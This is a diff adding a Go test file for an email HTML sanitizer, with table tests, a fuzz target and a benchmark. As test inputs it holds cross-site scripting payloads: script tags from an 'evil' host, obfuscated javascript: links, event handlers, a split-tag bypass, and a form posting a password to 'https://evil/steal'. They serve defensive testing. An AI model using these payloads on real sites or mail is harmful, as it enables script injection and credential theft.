@@ -0,0 +1,159 @@
+package mail
+
+import (
+	"net/url"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"golang.org/x/net/html"
+)
+
+func testCIDURL(cid string) string {
+	return "https://mail.example/attachment?part=" + url.QueryEscape(cid)
+}
+
+func TestSanitizeHTML(t *testing.T) {
+	tests := []struct{ name, in, want string }{
+		{"plain markup", `<p>Hello <b>world</b></p>`, `<p>Hello <b>world</b></p>`},
+		{"text escaped", `a &lt;b&gt; &amp; "c"`, `a &lt;b&gt; &amp; &#34;c&#34;`},
+		{"document", `<!DOCTYPE html><html><head><title>t</title><meta charset="utf-8"><link rel="stylesheet" href="https://x/s.css"></head><body bgcolor="#fff"><p>hi</p></body></html>`, `<p>hi</p>`},
+		{"script", `a<script>alert(1)</script>b<SCRIPT SRC="https://evil/x.js"></SCRIPT>c`, `abc`},
+		{"style element", `<style>body{background:url(https://evil/)}</style><p>x</p>`, `<p>x</p>`},
+		{"iframe and object", `<iframe src="https://evil/"></iframe><object data="x"><embed src="y"></object>ok`, `ok`},
+		{"nested svg", `<svg><svg><script>x</script></svg><a href="javascript:1">in</a></svg>out`, `out`},
+		{"event handlers", `<img src="https://img.example/a.png" onerror="alert(1)" alt="a"><div onclick="x()">d</div>`,
+			`<img src="https://img.example/a.png" alt="a"><div>d</div>`},
+		{"javascript link", `<a href="javascript:alert(1)">x</a>`, `<a target="_blank" rel="noopener noreferrer">x</a>`},
+		{"obfuscated javascript", `<a href=" java&#x09;script:alert(1)">x</a><a href="JaVaScRiPt:alert(1)">y</a>`,
+			`<a target="_blank" rel="noopener noreferrer">x</a><a target="_blank" rel="noopener noreferrer">y</a>`},
+		{"safe links", `<a href="https://example.com/?a=1&amp;b=2" target="_self" rel="opener">x</a><a href="mailto:a@example.com">m</a>`,
+			`<a href="https://example.com/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer">x</a><a href="mailto:a@example.com" target="_blank" rel="noopener noreferrer">m</a>`},
+		{"relative and data links", `<a href="/account/delete">x</a><a href="data:text/html,<script>">y</a>`,
+			`<a target="_blank" rel="noopener noreferrer">x</a><a target="_blank" rel="noopener noreferrer">y</a>`},
+		{"cid image", `<img src="cid:logo%40example.com">`, `<img src="https://mail.example/attachment?part=logo%40example.com">`},
+		{"cid link", `<a href="cid:logo@example.com">x</a>`, `<a target="_blank" rel="noopener noreferrer">x</a>`},
+		{"data image", `<img src="data:image/png;base64,iVBORw0KGgo="><img src="data:image/svg+xml;base64,PHN2Zz4=">`,
+			`<img src="data:image/png;base64,iVBORw0KGgo="><img>`},
+		{"form", `<form action="https://evil/steal" method="post"><input name="password"><button formaction="https://evil/">Go</button></form>`, `Go`},
+		{"styles", `<p style="color: red; font-weight: bold">a</p><p style="background:url(https://evil/)">b</p><p style="position: fixed; top: 0">c</p><p style="background-position: center">d</p>`,
+			`<p style="color: red; font-weight: bold">a</p><p>b</p><p>c</p><p style="background-position: center">d</p>`},
+		{"dom clobbering", `<div id="config" class="admin" name="x">d</div>`, `<div>d</div>`},
+		{"duplicate attributes", `<img src="https://a.example/1.png" src="javascript:2">`, `<img src="https://a.example/1.png">`},
+		{"attribute quoting", `<img alt='"><script>x</script>'>`, `<img alt="&#34;&gt;&lt;script&gt;x&lt;/script&gt;">`},
+		{"unclosed", `<div><b><i>text`, `<div><b><i>text</i></b></div>`},
+		{"misnested", `<b><i>x</b>y</i>`, `<b><i>x</i></b>y`},
+		{"stray end tags", `</div></p>x</a>`, `x`},
+		{"comments", `a<!-- <script>x</script> -->b<!--[if mso]><p>mso</p><![endif]-->c`, `abc`},
+		{"unknown tags unwrapped", `<custom-el><marquee>m</marquee></custom-el>`, `m`},
+		{"textarea text", `<textarea><script>x</script></textarea>`, `&lt;script&gt;x&lt;/script&gt;`},
+		{"self-closing", `<div/>a<br/>b`, `<div>a<br>b</div>`},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := SanitizeHTML(tt.in, testCIDURL); got != tt.want {
+				t.Errorf("SanitizeHTML(%q)\n got: %s\nwant: %s", tt.in, got, tt.want)
+			}
+		})
+	}
+	if got := SanitizeHTML(`<img src="cid:logo" alt="l">`, nil); got != `<img alt="l">` {
+		t.Errorf("no cidURL: want the cid: source dropped, got %s", got)
+	}
+}
+
+func TestSanitizeHTML_DeepNesting(t *testing.T) {
+	in := strings.Repeat("<div>", 100000) + "x" + strings.Repeat("</div>", 100000)
+	got := SanitizeHTML(in, nil)
+	want := strings.Repeat("<div>", maxSanitizeDepth) + "x" + strings.Repeat("</div>", maxSanitizeDepth)
+	if got != want {
+		t.Errorf("want nesting capped at %d, got %d bytes", maxSanitizeDepth, len(got))
+	}
+}
+
+// checkSanitized fails unless out holds only allowed elements and
+// attributes, with safe URLs, and sanitizes to itself.
+func checkSanitized(t *testing.T, in, out string) {
+	t.Helper()
+	z := html.NewTokenizer(strings.NewReader(out))
+	for tt := z.Next(); tt != html.ErrorToken; tt = z.Next() {
+		tok := z.Token()
+		switch tt {
+		case html.CommentToken, html.DoctypeToken, html.SelfClosingTagToken:
+			t.Fatalf("input %q: unexpected %v in output %q", in, tt, out)
+		case html.StartTagToken:
+			attrs, ok := sanitizeAllowed[tok.Data]
+			if !ok {
+				t.Fatalf("input %q: element %q in output %q", in, tok.Data, out)
+			}
+			for _, a := range tok.Attr {
+				if tok.Data == "a" && (a.Key == "target" || a.Key == "rel") {
+					continue
+				}
+				if !sanitizeGlobalAttrs[a.Key] && !slices.Contains(attrs, a.Key) {
+					t.Fatalf("input %q: attribute %q in output %q", in, a.Key, out)
+				}
+				if a.Key == "href" || a.Key == "src" || a.Key == "background" {
+					if _, ok := safeURL(a.Val, a.Key != "href", testCIDURL); !ok {
+						t.Fatalf("input %q: unsafe URL %q in output %q", in, a.Val, out)
+					}
+				}
+				if a.Key == "style" && !safeStyle(a.Val) {
+					t.Fatalf("input %q: unsafe style %q in output %q", in, a.Val, out)
+				}
+			}
+		}
+	}
+	if again := SanitizeHTML(out, testCIDURL); again != out {
+		t.Fatalf("input %q: sanitizing again changed\n%q\nto\n%q", in, out, again)
+	}
+}
+
+func FuzzSanitizeHTML(f *testing.F) {
+	for _, seed := range []string{
+		`<p>Hello <b>world</b></p>`,
+		`<a href="java&#x09;script:alert(1)">x</a>`,
+		`<img src="cid:logo" onerror=alert(1)>`,
+		`<svg><script>alert(1)</script></svg>`,
+		`<table background="https://x/y.png"><tr><td style="color:red">a`,
+		`<form action="https://evil/"><input></form>`,
+		`<div/><br/><p style="position:fixed">`,
+		`<<<>>><a <b =c>`,
+		`<scr<script>ipt>alert(1)</script>`,
+		"<a href=\"\x00javascript:1\">",
+	} {
+		f.Add(seed)
+	}
+	f.Fuzz(func(t *testing.T, in string) {
+		start := time.Now()
+		out := SanitizeHTML(in, testCIDURL)
+		if d := time.Since(start); d > time.Second {
+			t.Fatalf("input of %d bytes took %v", len(in), d)
+		}
+		checkSanitized(t, in, out)
+	})
+}
+
+// largeHTML returns a message body of about size bytes of typical
+// newsletter markup, unclosed elements and all.
+func largeHTML(size int) string {
+	block := `<table width="100%" cellpadding="0" style="color:#333"><tr><td><a href="https://example.com/p?id=1&amp;utm=x">` +
+		`<img src="cid:img1@example.com" alt="product" width="120"></a><p>Lorem ipsum &amp; dolor <b>sit</b> amet<br>` +
+		`<span style="font-size:12px" onclick="track()">consectetur</span><script>track()</script><div><i>unclosed`
+	return strings.Repeat(block, size/len(block)+1)
+}
+
+func BenchmarkSanitizeHTML(b *testing.B) {
+	for _, size := range []struct {
+		name  string
+		bytes int
+	}{{"100KB", 100 << 10}, {"1MB", 1 << 20}, {"10MB", 10 << 20}} {
+		in := largeHTML(size.bytes)
+		b.Run(size.name, func(b *testing.B) {
+			b.SetBytes(int64(len(in)))
+			for i := 0; i < b.N; i++ {
+				SanitizeHTML(in, testCIDURL)
+			}
+		})
+	}
+}